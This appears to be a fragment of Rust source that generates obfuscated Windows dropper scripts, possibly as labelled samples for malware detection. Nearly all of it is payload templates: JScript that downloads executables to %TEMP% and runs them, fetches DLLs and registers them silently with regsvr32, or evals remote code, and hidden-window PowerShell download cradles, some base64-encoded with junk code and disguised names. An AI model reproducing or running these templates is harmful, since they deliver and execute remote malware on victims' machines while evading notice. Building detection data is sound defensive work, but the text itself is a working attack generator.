        "var @NAME@ = [@LIST@];\nvar w = new ActiveXObject('WScript.Shell');\nfor (var n = 0; n < @NAME@.length; n++) {\n  try {\n    var h = new ActiveXObject('MSXML2.XMLHTTP');\n    h.open('GET', @NAME@[n], false);\n    h.send();\n    var s = new ActiveXObject('ADODB.Stream');\n    s.open(); s.type = 1; s.write(h.responseBody);\n    var p = w.ExpandEnvironmentStrings('%TEMP%') + '\\\\@FILE@' + n + '.exe';\n    s.saveToFile(p, 2); s.close();\n    w.Run(p, 1, 0);\n  } catch (e) {}\n}\n",
        "var @NAME@ = [@LIST@], i = 0;\nwhile (i < @NAME@.length) {\n  WScript.CreateObject('WScript.Shell').Run('cmd /c curl -s -o %TEMP%\\\\@FILE@' + i + '.dll ' + @NAME@[i] + ' && regsvr32 /s %TEMP%\\\\@FILE@' + i + '.dll', 0, true);\n  i++;\n}\n",
        "var @NAME@ = [@LIST@];\nfor (var k in @NAME@) {\n  var h = new ActiveXObject('WinHttp.WinHttpRequest.5.1');\n  h.Open('GET', @NAME@[k], false);\n  h.Send();\n  if (h.Status == 200) { eval(h.ResponseText); }\n}\n",
    ]);
    out + &put(form, &[("NAME", &name), ("LIST", &list.join(", ")), ("FILE", &file)])
}

/// The rest is PowerShell's.
fn to_powershell(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", ".ps1", ".txt"]);
    let (name, file) = (veiled(dice), mixed(dice, 5));
    let shell = object(dice, "WScript.Shell", &mut out);
    let command = put(
        dice.pick(&[
            "iex (New-Object Net.WebClient).DownloadString('@URL@')",
            "$@FILE@='@URL@';iex (iwr $@FILE@ -useb).Content",
            "(New-Object Net.WebClient).DownloadFile('@URL@',$env:TEMP+'/@FILE@.exe');start ($env:TEMP+'/@FILE@.exe')",
        ]),
        &[("URL", &url), ("FILE", &file)],
    );
    if dice.chance(50) {
        let _ = writeln!(
            out,
            "var {name} = new ActiveXObject({shell});\n{name}.Run(\"powershell -nop -w hidden -EncodedCommand {}\", 0, false);",
            base64(&super::super::wide(&command))
        );
    } else {
        let word = address(dice, &url, &mut out, false);
        let _ = writeln!(
            out,
            "var {name} = new ActiveXObject({shell});\n{name}.Run('powershell -w hidden -c \"iex (irm \\'' + {word} + '\\')\"', 0, false);"
        );
    }
    out
}
